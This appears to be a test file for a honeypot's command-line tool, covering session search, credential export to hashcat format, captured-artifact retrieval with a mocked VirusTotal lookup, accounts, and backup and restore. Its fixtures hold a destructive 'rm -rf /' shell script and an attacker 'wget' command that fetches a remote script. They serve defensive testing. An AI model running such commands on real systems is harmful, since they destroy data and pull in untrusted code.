import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { pino } from 'pino'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { runCommandLine } from '../../src/cli/cli.ts'
import { verbs } from '../../src/cli/verbs.ts'
import { Settings } from '../../src/config/schema.ts'
import { Accounts } from '../../src/console/accounts/accounts.ts'
import { uuid7 } from '../../src/events/uuid7.ts'
import { openStores } from '../../src/store/open.ts'
import { sampleEvent } from '../store/sample-events.ts'

const folder = mkdtempSync(join(tmpdir(), 'sundew-work-cli-'))
const data = join(folder, 'data')
const asked: { path: string; key: string | undefined }[] = []
let virusTotal: Server
let sha256: string

beforeAll(async () => {
  virusTotal = createServer((request, response) => {
    asked.push({ path: request.url ?? '', key: request.headers['x-apikey'] as string | undefined })
    const attributes = {
      last_analysis_stats: { malicious: 41, undetected: 20 },
      popular_threat_classification: { suggested_threat_label: 'trojan.mirai' },
    }
    response.end(JSON.stringify({ data: { attributes } }))
  })
  await new Promise<void>((resolve) => virusTotal.listen(0, '127.0.0.1', resolve))
  const url = `http://127.0.0.1:${(virusTotal.address() as AddressInfo).port}`
  writeFileSync(join(folder, 'sundew.yaml'), JSON.stringify({ data, lookups: { virusTotal: { url } } }))
  const stores = openStores(Settings.parse({ data }), pino({ level: 'silent' }))
  sha256 = stores.artifacts.put(Buffer.from('#!/bin/sh\nrm -rf /\n')).sha256
  for (let n = 0; n < 3; n++) {
    const session = uuid7()
    const of = (type: string, given: Record<string, unknown>) =>
      stores.events.append(sampleEvent({ session, lure: 'ssh', srcIp: `203.0.113.${n}`, type, data: given }))
    of('session.open', {})
    of('login', { method: 'password', username: 'root', password: n ? 'admin' : 'line\nend', accepted: false })
    const hash = { mode: 5600, line: `user${n}::W:11:22:33` }
    of('login', { method: 'ntlm', username: `user${n}`, hash, accepted: false })
    of('turn', {
      kind: 'shell',
      input: n ? 'wget http://203.0.113.9/x.sh' : 'uname \x1b[31m-a',
      output: '',
      source: 'static',
      durationMs: 1,
    })
    of('session.close', { durationMs: 5, bytesIn: 1, bytesOut: 1, reason: 'attacker' })
  }
  await stores.events.flush()
  await stores.close()
})
afterAll(() => {
  virusTotal.close()
  rmSync(folder, { recursive: true, force: true })
})

async function sundew(...argv: string[]): Promise<{ code: number; out: string; err: string }> {
  let [out, err] = ['', '']
  const code = await runCommandLine([...argv, '--config', join(folder, 'sundew.yaml')], verbs, {
    line: (text = '') => {
      out += `${text}\n`
    },
    raw: (text) => {
      out += text
    },
    error: (text) => {
      err += text
    },
    columns: undefined,
  })
  return { code, out, err }
}

describe('the operator at the terminal', () => {
  it('counts what was typed and tried, and cannot be written to by it', async () => {
    const { out } = await sundew('top', 'input', '--since', '1h')
    expect(out).toMatch(/2 .* new {2}wget http:\/\/203\.0\.113\.9\/x\.sh/)
    expect(out).not.toContain('\x1b')
    expect(JSON.parse((await sundew('top', 'src_ip', '--json')).out)).toHaveLength(3)
    expect((await sundew('top', 'input', '--contains', 'wget')).out).not.toContain('uname')
    expect(await sundew('top', 'nonsense')).toMatchObject({ code: 2 })
  })

  it('finds sessions by words and by queries', async () => {
    expect(JSON.parse((await sundew('search', 'wget', '--json')).out)).toHaveLength(2)
    expect(JSON.parse((await sundew('search', 'src_ip:203.0.113.0 and lure:ssh', '--json')).out)).toHaveLength(1)
    expect(await sundew('search', 'lure:(')).toMatchObject({ code: 1 })
    expect((await sundew('search', 'input:nothing-like-it')).out).toMatch(
      /^none of 3 sessions since \d{4}-\d\d-\d\d matches input:nothing-like-it\n$/,
    )
    expect((await sundew('search', 'nothing-like-it')).out).toContain('a text is looked for in what was typed')
    expect((await sundew('search', 'input:uname', '--since', '2030-01-01')).out).toContain('1 earlier ones do: --since 2020-01-01')
  })

  it('makes lists for other programs, a line each', async () => {
    expect((await sundew('credentials', '--hashcat', '--mode', '5600')).out.trim().split('\n').sort()).toEqual([
      'user0::W:11:22:33',
      'user1::W:11:22:33',
      'user2::W:11:22:33',
    ])
    expect((await sundew('credentials', '--hashcat')).out).toContain('# hashcat -m 5600\n')
    expect((await sundew('credentials', '--list', 'password')).out).toBe('admin\n')
    expect((await sundew('credentials')).out).toMatch(/2 {2}root:admin/)
  })

  it('sees campaigns', async () => {
    const [first] = JSON.parse((await sundew('campaigns', '--json')).out)
    expect(first).toMatchObject({ sessions: 2, sources: 2, lures: ['ssh'] })
  })

  it('takes a captured file out, and asks VirusTotal of its hash when there is a key', async () => {
    expect((await sundew('artifacts', 'hashes')).out).toBe(`${sha256}  ${sha256}\n`)
    expect((await sundew('artifacts', 'ls')).out).toContain(sha256)
    const file = join(folder, 'sample')
    expect(await sundew('artifacts', 'get', sha256.slice(0, 8), file)).toMatchObject({ code: 0 })
    expect(readFileSync(file, 'utf8')).toBe('#!/bin/sh\nrm -rf /\n')
    expect(await sundew('artifacts', 'lookup', sha256)).toMatchObject({ code: 2 })
    expect(asked).toEqual([])
    process.env.SUNDEW_VIRUSTOTAL_KEY = 'k'
    try {
      expect((await sundew('artifacts', 'lookup', sha256)).out).toContain('41 of 61 engines call it malicious (trojan.mirai)')
    } finally {
      delete process.env.SUNDEW_VIRUSTOTAL_KEY
    }
    expect(asked).toEqual([{ path: `/files/${sha256}`, key: 'k' }])
  })

  it('keeps accounts and tokens, and every change stands in the audit log', async () => {
    const added = JSON.parse((await sundew('user', 'add', 'mira', 'operator', '--json')).out)
    expect(await sundew('user', 'add', 'mira', 'viewer')).toMatchObject({ code: 2 })
    expect(await sundew('user', 'role', 'mira', 'viewer')).toMatchObject({ code: 2 })
    const { token, id } = JSON.parse((await sundew('token', 'new', 'mira', 'report', 'viewer', '--json')).out)
    const accounts = new Accounts(data, { loginHours: 1 })
    expect(await accounts.isPasswordOf('mira', added.password)).toBe(true)
    expect(accounts.tokenOwner(token)).toEqual({ account: 'mira', role: 'viewer' })
    expect((await sundew('token', 'rm', String(id))).code).toBe(0)
    expect(accounts.tokenOwner(token)).toBeUndefined()
    expect(accounts.audits(10).map(({ action }) => action)).toEqual(['token revoked', 'token made', 'account added'])
    accounts.close()
  })

  it('backs the data folder up and brings it back, whole or not at all', async () => {
    const copy = join(folder, 'copy')
    expect(JSON.parse((await sundew('backup', copy, '--json')).out).files).toBeGreaterThan(4)
    expect(await sundew('backup', copy)).toMatchObject({ code: 1 })
    rmSync(join(data, 'artifacts'), { recursive: true })
    const { keptAs } = JSON.parse((await sundew('restore', copy, '--json')).out)
    expect(existsSync(keptAs)).toBe(true)
    expect((await sundew('artifacts', 'hashes')).out).toContain(sha256)
    expect(JSON.parse((await sundew('search', 'wget', '--json')).out)).toHaveLength(2)
    writeFileSync(join(copy, 'state.db'), 'damaged')
    expect(await sundew('restore', copy)).toMatchObject({ code: 1 })
    expect((await sundew('artifacts', 'hashes')).out).toContain(sha256)
    expect(await sundew('restore', folder)).toMatchObject({ code: 1 })
  })

  it('deletes what is too old', async () => {
    expect((await sundew('retain', '--days', '90')).out).toBe('0 events deleted\n')
    expect(await sundew('retain', '--days', 'x')).toMatchObject({ code: 2 })
  })
})
